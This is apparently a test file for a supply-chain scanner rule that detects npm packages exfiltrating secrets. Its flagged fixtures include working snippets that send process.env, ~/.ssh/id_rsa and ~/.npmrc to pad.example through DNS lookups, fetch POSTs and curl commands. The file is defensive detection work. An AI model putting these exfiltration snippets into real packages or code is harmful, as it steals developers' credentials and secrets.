import { secretsExfiltrated } from '../../../src/rules/code/secrets-exfiltrated.js'
import type { Severity } from '../../../src/rules/rule.js'
import { anAnalysedPackage } from '../../builders/analysed-package.js'
import { type CodeEvidence, codeFacts, codeObservation } from '../../builders/code-finding.js'
import { aDependencyChange } from '../../builders/dependency-change.js'
import { testRule } from '../../rule-tester.js'

const upgrade = aDependencyChange()
const addition = aDependencyChange({ before: null })

const observation = (severity: Severity, ...evidence: readonly CodeEvidence[]) =>
  codeObservation('sends secrets to somebody: the environment, or what files of credentials hold', evidence, {
    severity,
  })

const pad = { 'index.js': 'module.exports = (text, width) => text.padStart(width)\n' }
const added = async (files: Record<string, string>) => ({ package: await anAnalysedPackage(files) })

const lookup = `const text = Buffer.from(JSON.stringify(process.env)).toString('hex')
require('dns').lookup(text.slice(0, 60) + '.pad.example', () => {})`
const readsKey = "const key = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa')"
const readsSettings = "const own = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8').split('=')"
const asks = 'fetch(own[1], { headers: { authorization: own[3] } })'
const posts = "fetch('https://pad.example/', { method: 'POST', body: key })"

testRule(secretsExfiltrated, {
  clear: [
    {
      name: 'the environment that a child inherits',
      subject: upgrade,
      facts: await codeFacts(pad, {
        'index.js':
          "module.exports = () => require('child_process').spawn('ls', [], { env: { ...process.env, LANG: 'C' } })",
      }),
    },
    {
      name: 'a token in the header of a command',
      subject: upgrade,
      facts: await codeFacts(pad, {
        'index.js':
          "module.exports = () => require('child_process').execSync('curl -H \"Authorization: $PAD_TOKEN\" https://pad.example')",
      }),
    },
    {
      name: 'a named variable in a request',
      subject: addition,
      facts: await added({
        'index.js':
          'module.exports = () => fetch(process.env.PAD_URL, { headers: { authorization: process.env.PAD_TOKEN } })',
      }),
    },
    {
      name: 'settings by the own prefix of their names',
      subject: addition,
      facts: await added({
        'index.js':
          "const own = Object.entries(process.env).filter(([name]) => name.startsWith('PAD_'))\nfetch('https://pad.example/', { method: 'POST', body: JSON.stringify(own) })",
      }),
    },
    {
      name: 'a project’s settings that are read into the environment',
      subject: addition,
      facts: await added({ 'index.js': "Object.assign(process.env, parse(require('fs').readFileSync('.env')))" }),
    },
    {
      name: 'what is gathered, and a request of something else',
      subject: upgrade,
      facts: await codeFacts(pad, {
        'index.js': "console.log(JSON.stringify(process.env))\nfetch('https://pad.example/')",
      }),
    },
    {
      name: 'what the version before did as well, in another file',
      subject: upgrade,
      facts: await codeFacts({ ...pad, 'lib/a.js': lookup }, { ...pad, 'lib/b.js': `// moved\n${lookup}` }),
    },
    {
      name: 'tests that nothing loads',
      subject: upgrade,
      facts: await codeFacts(pad, { ...pad, 'test/env.js': lookup }),
    },
  ],
  flagged: [
    {
      name: 'the environment as names that are looked up',
      subject: upgrade,
      facts: await codeFacts(pad, { 'index.js': lookup }),
      observations: [
        observation(
          'critical',
          [
            'the environment',
            "const text = Buffer.from(JSON.stringify(process.env)).toString('hex')",
            'index.js',
            1,
            41,
          ],
          [
            'goes out as a name that is looked up',
            "require('dns').lookup(text.slice(0, 60) + '.pad.example', () => {})",
            'index.js',
            2,
            1,
          ],
        ),
      ],
    },
    {
      name: 'a key of a new package, when somebody calls it',
      subject: addition,
      facts: await added({ 'index.js': `module.exports = () => {\n${readsKey}\n${posts}\n}` }),
      observations: [
        observation(
          'critical',
          ['credentials', readsKey, 'index.js', 2, 40],
          ['goes to the network', posts, 'index.js', 3, 1],
        ),
      ],
    },
    {
      name: 'a secret that is gathered in one file and sent by another',
      subject: upgrade,
      facts: await codeFacts(pad, {
        'index.js': "require('./b')(require('./a')())",
        'a.js': 'module.exports = () => Object.entries(process.env)',
        'b.js': "module.exports = (all) => require('child_process').execSync('curl pad.example -d ' + all)",
      }),
      observations: [
        observation(
          'critical',
          ['the environment', 'module.exports = () => Object.entries(process.env)', 'a.js', 1, 39],
          [
            'goes to another program',
            "module.exports = (all) => require('child_process').execSync('curl pad.example -d ' + all)",
            'b.js',
            1,
            27,
          ],
        ),
      ],
    },
    {
      name: 'commands that send the environment, or a file of credentials',
      subject: upgrade,
      facts: await codeFacts(pad, {
        'index.js':
          "const { exec } = require('child_process')\nexec('printenv | curl -d @- https://pad.example')\nexec('curl -F f=@$HOME/.npmrc https://pad.example')",
      }),
      observations: [
        observation(
          'critical',
          ['command that sends secrets', 'printenv | curl -d @- https://pad.example', 'index.js', 2, 1],
          ['command that sends secrets', 'curl -F f=@$HOME/.npmrc https://pad.example', 'index.js', 3, 1],
        ),
      ],
    },
    {
      name: 'a file that nothing leads to, one step lower',
      subject: upgrade,
      facts: await codeFacts(pad, { ...pad, 'lib/x.js': `${readsKey}\n${posts}` }),
      observations: [
        observation(
          'high',
          ['credentials', readsKey, 'lib/x.js', 1, 40],
          ['goes to the network', posts, 'lib/x.js', 2, 1],
        ),
      ],
    },
    {
      name: 'settings that may name the registry that is asked',
      subject: addition,
      facts: await added({ 'index.js': `module.exports = () => {\n${readsSettings}\n${asks}\n}` }),
      observations: [
        {
          ...observation(
            'medium',
            ['credentials', readsSettings, 'index.js', 2, 40],
            ['goes to the network', asks, 'index.js', 3, 1],
          ),
          confidence: 'low',
        },
      ],
    },
  ],
})
